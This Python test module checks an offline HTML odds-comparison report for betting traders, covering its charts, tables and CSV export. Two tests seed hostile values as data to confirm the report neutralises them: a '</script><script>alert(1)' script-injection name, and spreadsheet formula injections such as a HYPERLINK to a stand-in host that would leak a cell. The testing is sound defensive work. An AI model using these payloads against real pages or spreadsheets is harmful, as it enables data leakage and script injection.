"""The traders' report: written by its asset after a real run, its figures match the tables, and it draws.

The browser test opens the page in Debian's chromium (headless, driven by playwright; never a downloaded
browser) from a file URL with the network unreachable, so it proves the page is self-contained.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import dagster as dg
import psycopg
import pytest

from palimpsest_pipeline.markets.vocabulary import MAIN_MARKETS
from palimpsest_pipeline.report.build import REPORT_FILE, build_report
from palimpsest_pipeline.warehouse.config import libpq_url
from palimpsest_pipeline.warehouse.report_reader import DESK_ROWS
from palimpsest_pipeline_tests.defs.conftest import DAY as MATERIALIZED_DAY
from palimpsest_pipeline_tests.defs.conftest import DAY_REPORT_GAP, MaterializedDay

pytestmark = pytest.mark.slow

DAY = date.fromisoformat(MATERIALIZED_DAY)
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHARTS = 11
#: One catalogue run times no listing (a listing is timed by the scrape after the first): lead time is empty;
#: one capture sees no price move: price leadership is empty.
DRAWN = CHARTS - 2


def _drawn(warehouse_url: str) -> int:
    """Charts drawn after one run: key health too when the capture path filled an hour of 200 open outcomes
    (the charts' own threshold), read from the table itself."""
    with psycopg.connect(libpq_url(warehouse_url)) as conn:
        row = conn.execute("SELECT count(*) FROM analytics.key_health WHERE open_outcomes >= 200").fetchone()
    return DRAWN if row and row[0] else DRAWN - 1


@pytest.fixture
def report_run(materialized_day: MaterializedDay) -> MaterializedDay:
    """Every asset for one kick-off day (:data:`DAY`) against the sandbox, the report written into its
    ``report_dir``; every BetPawa price below the best is "out of line" there: the desk test needs rows."""
    assert DAY_REPORT_GAP == 0.0
    return materialized_day


def _specs(page: str) -> dict[str, dict]:
    match = re.search(r'<script type="application/json" id="specs">(.*?)</script>', page, re.S)
    assert match, "the page has no chart specs"
    return json.loads(match.group(1))


def _sections(page: str) -> list[str]:
    return re.findall(r'<section class="chart" data-chart="(\w+)">', page)


def _values(spec: dict) -> list[dict]:
    """The inline data rows of a (possibly layered) Vega-Lite spec."""
    datasets = spec.get("datasets", {})
    return [row for rows in datasets.values() for row in rows]


def test_the_asset_writes_the_page_with_every_chart_and_the_tables_figures(
    report_run: MaterializedDay, day_warehouse_url: str
) -> None:
    warehouse_url = day_warehouse_url  # a copy of the run's warehouse
    assert report_run.result.success
    page_path = report_run.report_dir / REPORT_FILE
    materialization = next(
        m
        for m in report_run.result.get_asset_materialization_events()
        if m.asset_key == dg.AssetKey("traders_report")
    )
    metadata = materialization.materialization.metadata
    drawn = _drawn(warehouse_url)
    assert metadata["path"].value == str(page_path)
    assert metadata["charts"].value == CHARTS and metadata["charts_with_data"].value == drawn
    page = page_path.read_text()
    assert metadata["bytes"].value == page_path.stat().st_size
    assert "http://" not in page.split("<body>")[1] and "https://cdn" not in page  # nothing fetched
    assert _sections(page) == [
        "coverage_tournament",
        "coverage_country",
        "coverage_sport",
        "history",
        "best_share",
        "gap",
        "margins",
        "changes",
        "lead_time",
        "price_leadership",
        "key_health",
    ]
    specs = _specs(page)
    assert len(specs) == drawn
    assert "it takes two scrapes" in page and "No price move has been seen yet" in page

    with psycopg.connect(libpq_url(warehouse_url)) as conn:
        # Independent figures, straight from the stored rows: events per book of the (only) catalogue run ...
        listed = dict(
            conn.execute("SELECT book, count(*) FROM core.events WHERE deleted_at IS NULL GROUP BY book")
        )
        # ... and BetPawa's best-price share on 1X2 among every Nigerian book, from the comparison rows one by
        # one (the long table: the wide odds_comparison view ranks BetPawa, SportyBet and Bet9ja alone).
        rows = conn.execute(
            "SELECT betpawa_rank FROM analytics.outcome_comparison WHERE site_country = 'ng' AND market = 1 "
            "AND betpawa_gap IS NOT NULL AND books_offering >= 2"
        ).fetchall()
    changes = {(r["book"], r["change"]): r["events"] for r in _values(specs["vis-7"])}
    for book, count in listed.items():
        assert changes[(book, "added")] == count  # the first run added everything it lists
        assert changes[(book, "withdrawn")] == 0
    best = {r["market"]: r["best share"] for r in _values(specs["vis-4"])}
    sports = {"football", "basketball", "tennis"}
    assert all(
        r["market_label"].split(" ")[0] in sports for r in _values(specs["vis-4"])
    )  # labels name the sport
    assert rows and best[1] == pytest.approx(sum(1 for (rank,) in rows if rank == 1) / len(rows))


def test_an_empty_warehouse_gives_a_page_that_says_so(warehouse_url: str, tmp_path: Path) -> None:
    with psycopg.connect(libpq_url(warehouse_url)) as conn:
        built = build_report(conn, DAY, DAY, tmp_path / "empty.html")
    page = (tmp_path / "empty.html").read_text()
    assert built.charts == CHARTS and built.drawn == 0
    # and the three desk tables (to list, out of line, price anomalies), the key-health table and its
    # families', and the live panel's five (missing on BetPawa, on a competitor, suspension, BetPawa late,
    # retention)
    assert page.count('class="empty"') == CHARTS + 5 + 5 and _specs(page) == {}
    assert "No BetPawa price anomaly found" in page


def test_names_cannot_break_out_of_the_page(warehouse_url: str, tmp_path: Path) -> None:
    hostile = "</script><script>alert(1)</script> <!-- Ünïcødé «Liga» \\ ' \""
    with psycopg.connect(libpq_url(warehouse_url), autocommit=True) as conn:
        # one tournament: 3 matches, 1 on BetPawa and a competitor, 2 on SportyBet alone, as the
        # coverage_by_tournament view shows them
        key = "kickoff_date, site_country, level, sport, tournament_key"
        conn.execute(
            f"INSERT INTO analytics.coverage_groups ({key}, country, tournament, placed, total, matched, "
            "betpawa_only, competitor_only, several_competitors_only, on_every_book, without_sr_id, "
            "linked_by_genius) "
            "VALUES (%s, 'ng', 'tournament', 'football', 'x:1', 'X', %s, false, 3, 1, 0, 2, 0, 1, 0, 0)",
            (DAY, hostile),
        )
        for book, events, not_on_betpawa, betpawa_not_on_it, only_on_it in (
            ("betpawa", 1, 0, 0, 0),
            ("sportybet", 3, 2, 0, 2),
            ("bet9ja", 1, 0, 0, 0),
        ):
            conn.execute(
                f"INSERT INTO analytics.coverage ({key}, book, events, not_on_betpawa, betpawa_not_on_it, "
                "only_on_it) VALUES (%s, 'ng', 'tournament', 'football', 'x:1', %s, %s, %s, %s, %s)",
                (DAY, book, events, not_on_betpawa, betpawa_not_on_it, only_on_it),
            )
        build_report(conn, DAY, DAY, tmp_path / "hostile.html")
    page = (tmp_path / "hostile.html").read_text()
    # Only the page's own four script blocks end: the name's "</script>" cannot close the data block, nor
    # can its "<!--" switch the HTML parser into a comment state inside it.
    assert page.count("</script") == 4
    data_block = page.split('id="specs">')[1].split("</script>")[0]
    assert "<" not in data_block
    labels = [r["label"] for r in _values(_specs(page)["vis-0"])]
    assert any(label.startswith("</script><script>alert(1)") for label in labels)  # kept verbatim as data


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    """One headless chromium for the module's tests; each opens a context (its own pages) of its own."""
    if CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed: .ci/run installs it (apt-get install chromium)")
        pytest.skip("chromium is not installed (apt-get install chromium); CI installs it and runs this test")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        launched = pw.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        try:
            yield launched
        finally:
            launched.close()


def test_the_page_draws_every_chart_in_a_real_browser_offline(
    report_run: MaterializedDay, tmp_path: Path, browser: object, day_warehouse_url: str
) -> None:
    assert report_run.result.success
    drawn_expected = _drawn(day_warehouse_url)
    page_path = report_run.report_dir / REPORT_FILE
    context = browser.new_context(offline=True)  # type: ignore[attr-defined]
    page = context.new_page()
    problems: list[str] = []
    page.on("console", lambda msg: problems.append(msg.text) if msg.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.goto(page_path.as_uri())
    page.wait_for_function(
        f"document.querySelectorAll('.vis[data-drawn=\"true\"]').length === {drawn_expected}", timeout=60_000
    )
    drawn = page.evaluate(
        """() => [...document.querySelectorAll('.vis')].map(vis => ({
            id: vis.id,
            marks: vis.querySelectorAll('svg .role-mark path, svg .role-mark line').length,
            axes: vis.querySelectorAll('svg .role-axis').length,
        }))"""
    )
    assert len(drawn) == drawn_expected
    for chart in drawn:
        assert chart["marks"] > 0 and chart["axes"] > 0, chart
    assert problems == []
    # the history's time axis reads as times ("25 Nov 12:00"), never as a fraction of a second (".597")
    history_labels = page.evaluate(
        """() => [...document.querySelectorAll('#vis-3 .role-axis-label text')].map(t => t.textContent)"""
    )
    times = [label for label in history_labels if re.fullmatch(r"\d{2} \w{3} \d{2}:\d{2}", label)]
    assert times and not [label for label in history_labels if label.startswith(".")]
    page.screenshot(path=str(tmp_path / "report.png"), full_page=True)
    context.close()


def _desk_rows(page: object, table: str) -> list[list[str]]:
    return page.evaluate(  # type: ignore[attr-defined,no-any-return]
        f"""() => [...document.querySelectorAll('section[data-table="{table}"] tbody tr')]
            .filter(r => r.style.display !== "none").map(r => [...r.cells].map(c => c.textContent))"""
    )


def test_the_desk_tables_sort_filter_and_export_the_rows_shown(
    report_run: MaterializedDay, browser: object, day_warehouse_url: str
) -> None:
    assert report_run.result.success
    with psycopg.connect(libpq_url(day_warehouse_url)) as conn:  # the expectation, from the tables themselves
        to_list = conn.execute(
            "SELECT home || ' v ' || away, sport, coalesce(tournament, '') FROM analytics.to_list_now"
        ).fetchall()
        out_of_line = conn.execute(
            "SELECT count(*) FROM analytics.odds_comparison c"
            " WHERE c.market = ANY(%s) AND best_book <> 'betpawa'"
            " AND price_betpawa < best_price AND NOT coalesce(stale_betpawa, false)"
            " AND NOT coalesce(suspect_betpawa, false)",
            (sorted(MAIN_MARKETS),),
        ).fetchone()
    assert to_list and out_of_line is not None and out_of_line[0] > 0
    context = browser.new_context(offline=True, accept_downloads=True)  # type: ignore[attr-defined]
    page = context.new_page()
    page.goto((report_run.report_dir / REPORT_FILE).as_uri())

    # out of line: every outcome (up to the page's cap), sorted by gap when its header is clicked
    assert len(_desk_rows(page, "out_of_line")) == min(out_of_line[0], DESK_ROWS)
    gap_col = 9
    page.click('section[data-table="out_of_line"] th[data-col="9"]')
    gaps = [float(row[gap_col]) for row in _desk_rows(page, "out_of_line")]
    assert gaps == sorted(gaps)
    page.click('section[data-table="out_of_line"] th[data-col="9"]')
    assert [float(row[gap_col]) for row in _desk_rows(page, "out_of_line")] == sorted(gaps, reverse=True)
    assert all(
        row[4].split(" ")[0] == row[1] for row in _desk_rows(page, "out_of_line")
    )  # labels name the sport

    # to list: the text filter keeps exactly the rows of one tournament, and the CSV holds exactly those
    tournament = to_list[0][2]
    expected = sorted((match, sport) for match, sport, t in to_list if tournament.lower() in t.lower())
    page.fill('section[data-table="to_list"] input', tournament)
    shown = _desk_rows(page, "to_list")
    assert sorted((row[4], row[1]) for row in shown) == expected
    with page.expect_download() as download:
        page.click('section[data-table="to_list"] button')
    lines = list(csv.reader(Path(download.value.path()).read_text().splitlines()))
    assert lines[0][0] == "Kick-off (UTC)" and lines[1:] == shown

    # the sport filter
    page.fill('section[data-table="to_list"] input', "")
    sport = to_list[0][1]
    page.select_option('section[data-table="to_list"] select', sport)
    assert sorted(row[4] for row in _desk_rows(page, "to_list")) == sorted(
        m for m, s, _ in to_list if s == sport
    )
    context.close()


def test_the_desk_csv_holds_no_formula_from_a_books_names(
    warehouse_url: str, tmp_path: Path, browser: object
) -> None:
    """Names a book supplies, seeded as to-list rows, come out of the downloaded CSV as text a spreadsheet
    shows, never runs; the numbers, a negative one included, stay numbers."""
    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"odds")'
    kickoff = datetime(DAY.year, DAY.month, DAY.day, 15, tzinfo=UTC)
    with psycopg.connect(libpq_url(warehouse_url), autocommit=True) as conn:
        for key, country, tournament, home, away, hours in (
            ("m1", "-2+3", hyperlink, "+44 Lions", "Tigers", 27.0),
            ("m2", "\t=1+1", "@SUM(A1:A9)", "Bears", "=Wolves", -0.5),
        ):
            conn.execute(
                "INSERT INTO analytics.to_list_now (kickoff_date, site_country, match_key, sport, country, "
                "tournament, home, away, kickoff, hours_to_kickoff, listed_by, first_listed_at, "
                "hours_listed_by_competitor, computed_at) "
                "VALUES (%s, 'ng', %s, 'football', %s, %s, %s, %s, %s, %s, ARRAY['sportybet'], %s, 3, now())",
                (DAY, key, country, tournament, home, away, kickoff, hours, kickoff - timedelta(hours=3)),
            )
        build_report(conn, DAY, DAY, tmp_path / "hostile.html")
    context = browser.new_context(offline=True, accept_downloads=True)  # type: ignore[attr-defined]
    page = context.new_page()
    page.goto((tmp_path / "hostile.html").as_uri())
    shown = sorted(_desk_rows(page, "to_list"))
    with page.expect_download() as download:
        page.click('section[data-table="to_list"] button')
    lines = list(csv.reader(Path(download.value.path()).read_text().splitlines()))
    context.close()
    when = f"{kickoff:%Y-%m-%d %H:%M}"
    assert sorted(lines[1:]) == sorted(
        [
            [when, "football", "'-2+3", "'" + hyperlink, "'+44 Lions v Tigers", "sportybet", "27", "3"],
            [when, "football", "'\t=1+1", "'@SUM(A1:A9)", "Bears v =Wolves", "sportybet", "-0.5", "3"],
        ]
    )
    # the page itself shows the names as the book gave them
    assert sorted(row[2:5] for row in shown) == sorted(
        [["-2+3", hyperlink, "+44 Lions v Tigers"], ["\t=1+1", "@SUM(A1:A9)", "Bears v =Wolves"]]
    )


def test_an_unknown_listing_age_reads_unknown_on_the_page_and_in_the_csv(
    warehouse_url: str, tmp_path: Path, browser: object
) -> None:
    """A to-list row whose age is unknown (NULL) shows "unknown", not 0 or blank, exports so, and sorts after
    the known ages."""
    kickoff = datetime(DAY.year, DAY.month, DAY.day, 15, tzinfo=UTC)
    with psycopg.connect(libpq_url(warehouse_url), autocommit=True) as conn:
        for key, hours in (("m1", 5.4), ("m2", None), ("m3", 0.5)):
            conn.execute(
                "INSERT INTO analytics.to_list_now (kickoff_date, site_country, match_key, sport, country, "
                "tournament, home, away, kickoff, hours_to_kickoff, listed_by, first_listed_at, "
                "hours_listed_by_competitor, computed_at) "
                "VALUES (%s, 'ng', %s, 'football', 'England', 'League', %s, 'B', %s, 2, ARRAY['bet9ja'], %s, "
                "%s, now())",
                (DAY, key, key, kickoff, kickoff - timedelta(hours=6), hours),
            )
        build_report(conn, DAY, DAY, tmp_path / "ages.html")
    context = browser.new_context(offline=True, accept_downloads=True)  # type: ignore[attr-defined]
    page = context.new_page()
    page.goto((tmp_path / "ages.html").as_uri())
    ages = {row[4]: row[7] for row in _desk_rows(page, "to_list")}
    assert ages == {"m1 v B": "5.4", "m2 v B": "unknown", "m3 v B": "0.5"}
    page.click('section[data-table="to_list"] th[data-col="7"]')
    assert [row[7] for row in _desk_rows(page, "to_list")] == ["0.5", "5.4", "unknown"]
    with page.expect_download() as download:
        page.click('section[data-table="to_list"] button')
    lines = list(csv.reader(Path(download.value.path()).read_text().splitlines()))
    context.close()
    assert lines[0][7] == "Hours listed by them"
    assert [line[7] for line in lines[1:]] == ["0.5", "5.4", "unknown"]


def test_the_price_leadership_chart_draws_in_a_real_browser(
    warehouse_url: str, tmp_path: Path, browser: object
) -> None:
    """One run captures no price move, so the asset test leaves this chart empty: drawn from seeded rows."""
    with psycopg.connect(libpq_url(warehouse_url), autocommit=True) as conn:
        for sport, book, moves, led, followed, lag in (
            ("football", "sportybet", 40, 38, 2, 3.0),
            ("football", "betpawa", 10, 1, 9, 9.5),
            ("tennis", "bet9ja", 8, 8, 0, None),
        ):
            conn.execute(
                "INSERT INTO analytics.price_leadership (kickoff_date, site_country, sport, country, "
                "tournament, market, book, moves, moves_led, led_moves_followed, moves_followed, moves_late, "
                "median_follow_lag_minutes, moves_missed, window_minutes, computed_at) "
                "VALUES (%s, 'ng', %s, '', '', 1, %s, %s, %s, 0, %s, 0, %s, 0, 30, now())",
                (DAY, sport, book, moves, led, followed, lag),
            )
        built = build_report(conn, DAY, DAY, tmp_path / "leadership.html")
    assert built.drawn == 1
    page = browser.new_context(offline=True).new_page()  # type: ignore[attr-defined]
    problems: list[str] = []
    page.on("console", lambda msg: problems.append(msg.text) if msg.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.goto((tmp_path / "leadership.html").as_uri())
    page.wait_for_function(
        "document.querySelectorAll('.vis[data-drawn=\"true\"]').length === 1", timeout=60_000
    )
    labels = page.evaluate(
        """() => [...document.querySelectorAll(
            'section[data-chart="price_leadership"] .role-axis-label text')].map(t => t.textContent)"""
    )
    bars = page.evaluate(
        """() => document.querySelectorAll('section[data-chart="price_leadership"] .role-mark path').length"""
    )
    assert problems == []
    assert {"football · sportybet", "football · betpawa", "tennis · bet9ja"} <= set(labels)
    assert bars == 5  # a led share per row, a follow lag per row that followed (not tennis's)


def _key_health_hour(
    conn: psycopg.Connection,
    book: str,
    hour: datetime,
    open_outcomes: int,
    keyed: int,
    set_aside: int,
    suspect: int,
    new_fields: list[str] | None = None,
) -> None:
    conn.execute(
        "INSERT INTO analytics.key_health (site_country, book, hour, captures, open_outcomes, "
        "keyed_outcomes, set_aside_outcomes, suspect_outcomes, keyed_share, set_aside_share, suspect_share, "
        "new_fields) VALUES ('ng', %s, %s, 10, %s, %s, %s, %s, %s, %s, %s, %s)",
        (
            book,
            hour,
            open_outcomes,
            keyed,
            set_aside,
            suspect,
            keyed / open_outcomes,
            set_aside / open_outcomes,
            suspect / keyed,
            new_fields or [],
        ),
    )


def test_the_key_health_chart_and_table_draw_from_seeded_rows_in_a_real_browser(
    warehouse_url: str, tmp_path: Path, browser: object
) -> None:
    """Two days of hours per book, then the hour judged. Expected percentages, worked out by hand: BetPawa
    980/1000 keyed for two days, then 800 (80 against 98); Bet9ja 48 suspect of 475 keyed (10.1 against 0);
    SportyBet 1,990 and 1,930 of 2,000 alternately (98 on average), then 1,950 (97.5)."""
    judged = datetime(2026, 11, 25, 10, tzinfo=UTC)
    fields = ["data.markets[].row[].specifier.hcp", "data.markets[].row[].formattedHandicap"]
    with psycopg.connect(libpq_url(warehouse_url), autocommit=True) as conn:
        for hours_before in range(1, 49):
            hour = judged - timedelta(hours=hours_before)
            _key_health_hour(conn, "betpawa", hour, 1000, 980, 10, 0)
            _key_health_hour(conn, "bet9ja", hour, 500, 475, 5, 0)
            _key_health_hour(conn, "sportybet", hour, 2000, 1990 if hours_before % 2 else 1930, 0, 0)
        _key_health_hour(conn, "betpawa", judged, 1000, 800, 150, 0, fields)
        _key_health_hour(conn, "bet9ja", judged, 500, 475, 5, 48)
        _key_health_hour(conn, "sportybet", judged, 2000, 1950, 0, 0)
        # a thin hour after it (100 open outcomes): neither judged nor drawn
        _key_health_hour(conn, "betpawa", judged + timedelta(hours=1), 100, 50, 50, 0)
        built = build_report(conn, DAY, DAY, tmp_path / "key_health.html")
    assert built.drawn == 1
    html_text = (tmp_path / "key_health.html").read_text()
    series = _values(_specs(html_text)["vis-10"])
    assert len(series) == 3 * 49 * 3  # books x judged hours x measures: the thin hour left out
    at_judged = {
        (r["book"], r["measure"]): r["share"] for r in series if r["hour"].startswith("2026-11-25T10:00")
    }
    assert at_judged[("betpawa", "keyed")] == pytest.approx(0.8)
    assert at_judged[("bet9ja", "suspect")] == pytest.approx(48 / 475)

    page = browser.new_context(offline=True).new_page()  # type: ignore[attr-defined]
    problems: list[str] = []
    page.on("console", lambda msg: problems.append(msg.text) if msg.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.goto((tmp_path / "key_health.html").as_uri())
    page.wait_for_function(
        "document.querySelectorAll('.vis[data-drawn=\"true\"]').length === 1", timeout=60_000
    )
    chart = page.evaluate(
        """() => {
            const vis = document.querySelector('section[data-chart="key_health"] .vis');
            return {
                lines: vis.querySelectorAll('svg .role-mark path').length,
                axes: vis.querySelectorAll('svg .role-axis').length,
                legend: [...vis.querySelectorAll('.role-legend-label text')].map(t => t.textContent),
            };
        }"""
    )
    assert problems == []
    assert chart["lines"] > 0 and chart["axes"] > 0
    assert sorted(chart["legend"]) == ["bet9ja", "betpawa", "sportybet"]
    hour = "2026-11-25 10:00"
    assert _desk_rows(page, "key_health") == [
        ["bet9ja", hour, "10", "500", "95", "95", "1", "1", "10.1", "0", ""],
        ["betpawa", hour, "10", "1000", "80", "98", "15", "1", "0", "0", ", ".join(fields)],
        ["sportybet", hour, "10", "2000", "97.5", "98", "0", "0", "0", "0", ""],
    ]
    page.screenshot(path=str(tmp_path / "key_health.png"), full_page=True)
    page.select_option('section[data-table="key_health"] select', "betpawa")
    assert [row[0] for row in _desk_rows(page, "key_health")] == ["betpawa"]
